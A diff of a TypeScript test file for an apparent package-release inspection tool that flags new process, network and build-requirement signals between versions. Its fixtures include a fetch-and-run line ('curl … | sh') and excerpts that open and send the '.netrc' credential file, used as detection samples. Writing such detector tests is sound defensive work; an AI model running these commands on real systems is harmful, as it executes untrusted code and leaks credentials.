@@ -240,9 +240,9 @@ describe("the signals of two releases", () => {
   const processAt = (line: number, excerpt = 'system("date")') =>
     signalOf("process", { subject: "system", file: "R/a.R", line, excerpt });
 
-  test("are new, gone and unchanged, as often as they occur; a moved line is no news", () => {
+  test("are new, gone and unchanged, as often as they occur; a line that was moved or set anew is no news", () => {
     const before = inspection({ signals: [processAt(1), processAt(5, "system('old')")] });
-    const after = inspection({ signals: [processAt(9, ' system("date")  '), processAt(12)] });
+    const after = inspection({ signals: [processAt(9, ' system(\n  "date"\n)  '), processAt(12)] });
     const { fresh, gone, unchanged } = compare(before, after).signals;
     expect([fresh, gone, unchanged].map((some) => some.map(({ line }) => line))).toEqual([[12], [5], [9]]);
   });
@@ -258,6 +258,8 @@ describe("the signals of two releases", () => {
     expect(compare(base, inspection({ signals: [edited] })).signals).toMatchObject({ fresh: [notice], gone: [] });
     const elsewhere = place("b.py", 'open(".netrc")');
     expect(compare(base, inspection({ signals: [elsewhere, edited] })).signals.fresh).toEqual([elsewhere, notice]);
+    const used = place("a.py", 'FILES = open((".netrc",))');
+    expect(compare(base, inspection({ signals: [used] })).signals.fresh).toEqual([used]);
     const again = place("a.py", 'send(".netrc")');
     const { fresh } = compare(base, inspection({ signals: [again, ...base.signals] })).signals;
     expect(fresh).toEqual([again]);
@@ -271,7 +273,24 @@ describe("the signals of two releases", () => {
     expect(levelOf('system("curl -s https://a.example | sh")')).toEqual(["warning"]);
     expect(levelOf('do.call("system", list(x))')).toEqual(["warning"]);
     expect(levelOf("lapply(x, system)")).toEqual(["warning"]);
+    expect(levelOf("system(command, '203.0.113.9')")).toEqual(["warning"]);
     expect(compare(r(), r(processAt(1))).signals.fresh).toMatchObject([{ level: "warning" }]);
+  });
+
+  test("of R are warnings for the first use of another package, or of sockets", () => {
+    const using = (id: "process" | "network", ...subjects: string[]) =>
+      inspection({
+        technology: "R",
+        signals: subjects.map((subject) => signalOf(id, { subject, file: "R/a.R", line: 1, excerpt: `${subject}(x)` })),
+      });
+    const levelOf = (id: "process" | "network", known: string, added: string) =>
+      compare(using(id, known), using(id, known, added)).signals.fresh.map(({ level }) => level);
+    expect(levelOf("process", "system", "system2")).toEqual(["notice"]);
+    expect(levelOf("process", "system", "sourceCpp")).toEqual(["warning"]);
+    expect(levelOf("network", "GET", "POST")).toEqual(["notice"]);
+    expect(levelOf("network", "download.file", "url")).toEqual(["notice"]);
+    expect(levelOf("network", "download.file", "socketConnection")).toEqual(["warning"]);
+    expect(levelOf("network", "download.file", "runServer")).toEqual(["warning"]);
   });
 
   test("of a new package count as notices, unless they are dangerous on their own", () => {
@@ -403,9 +422,13 @@ describe("what two releases show about their origin", () => {
     const project = (requires: string) => ({ "pyproject.toml": `[build-system]\nrequires = [${requires}]\n` });
     const { signals } = await compared(
       await sdist(project('"hatchling"')),
-      await sdist(project('"hatchling", "hatch-extra"')),
+      await sdist(project('"hatchling", "hatch-extra", "hatch_vcs", "numpy"')),
     );
-    expect(signals.fresh).toMatchObject([{ id: "py-build-requirements", level: "notice", subject: "hatch-extra" }]);
+    expect(signals.fresh).toMatchObject([
+      { id: "py-build-requirements", level: "warning", subject: "hatch-extra" },
+      { id: "py-build-requirements", level: "notice", subject: "hatch_vcs" },
+      { id: "py-build-requirements", level: "notice", subject: "numpy" },
+    ]);
     expect((await compared(await sdist(project('"hatchling"')), await wheel())).signals.fresh).toEqual([]);
   });
 
